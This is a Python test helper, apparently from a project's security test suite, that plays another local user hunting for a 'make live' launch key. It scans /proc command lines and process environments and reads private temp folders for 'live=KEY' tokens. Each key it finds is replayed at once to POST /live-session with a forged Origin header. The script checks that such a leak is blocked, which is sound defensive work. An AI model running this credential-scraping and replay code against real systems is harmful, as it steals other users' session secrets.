"""Another local user looking for make live's launch key (run by tests/site/test_live.py as
``nobody``; standard library only).

    python3 local_spy.py BOOK_URL [--command-lines-only]

Until its input closes, it reads every process's command line in ``/proc`` over and over (as an
unprivileged user can) and every file a command line names, tries to list and read the run's private
folders (``book-live-*`` in the temporary folder) and the environment of make live's processes.
Each key it finds (``live=KEY``) is exchanged at once at ``POST /live-session`` with a forged
``Origin`` of the book, as the issue's attacker did. At the end it prints one JSON object: the
command lines it saw that mention the run, every read that failed and why, the keys it found and
the answers to its exchanges. With ``--command-lines-only`` (when it runs as the reader's own user,
who may read the reader's files) it reads command lines alone.
"""

import glob
import json
import os
import re
import select
import sys
import tempfile
import urllib.error
import urllib.request

BOOK = sys.argv[1]
FILES = "--command-lines-only" not in sys.argv[2:]
ORIGIN = BOOK.rstrip("/")
KEY = re.compile(rb"live=([A-Za-z0-9_-]{16,})")
FILE = re.compile(rb"file://(/[^\s\"'<>]+)")
ME = os.getpid()

seen: dict[str, str] = {}       # pid -> command line, for those that mention the run
refused: dict[str, str] = {}    # path -> why it could not be read
read_ok: list[str] = []         # paths of the run that could be read
found: dict[str, str] = {}      # key -> where it was found
exchanges: dict[str, list] = {}  # key -> [status, body]
scans = 0


def read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError as e:
        refused[path] = type(e).__name__
        return None


def exchange(key: str, where: str) -> None:
    if key in exchanges:
        return
    found[key] = where
    req = urllib.request.Request(BOOK + "live-session", method="POST", data=b"",
                                 headers={"X-Book-Live-Key": key, "Origin": ORIGIN,
                                          "Sec-Fetch-Site": "same-origin"})
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            exchanges[key] = [r.status, r.read().decode()[:200]]
    except urllib.error.HTTPError as e:
        exchanges[key] = [e.code, e.read().decode()[:200]]
    except OSError as e:
        exchanges[key] = [0, str(e)]


def look(text: bytes, where: str) -> None:
    for m in KEY.finditer(text):
        exchange(m.group(1).decode(), where)


def stdin_closed() -> bool:
    ready, _, _ = select.select([0], [], [], 0)
    return bool(ready) and not os.read(0, 4096)


while not stdin_closed():
    scans += 1
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == ME:
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read().replace(b"\0", b" ")
        except OSError:
            continue
        if not any(w in cmd for w in (b"book-live", b"live=", b"serve_live", b"chromium", b"127.0.0.1")):
            continue
        seen[pid] = cmd.decode(errors="replace")
        look(cmd, f"command line of {pid}")
        if not FILES:
            continue
        for path in FILE.findall(cmd):
            p = urllib.request.url2pathname(path.decode())
            data = read(p)
            if data is not None:
                read_ok.append(p)
                look(data, p)
        if b"serve_live" in cmd:
            env = read(f"/proc/{pid}/environ")
            if env is not None:
                read_ok.append(f"/proc/{pid}/environ")
                look(env, f"/proc/{pid}/environ")
    for folder in glob.glob(os.path.join(tempfile.gettempdir(), "book-live-*")) if FILES else []:
        try:
            names = os.listdir(folder)
        except OSError as e:
            refused[folder] = type(e).__name__
            names = ["launch-1.html", "launch-2.html", "jupyter.sock"]
        else:
            read_ok.append(folder)
        for name in names:
            data = read(os.path.join(folder, name))
            if data is not None:
                read_ok.append(os.path.join(folder, name))
                look(data, os.path.join(folder, name))

print(json.dumps({"scans": scans, "seen": seen, "refused": refused, "read": sorted(set(read_ok)),
                  "found": found, "exchanges": exchanges}))
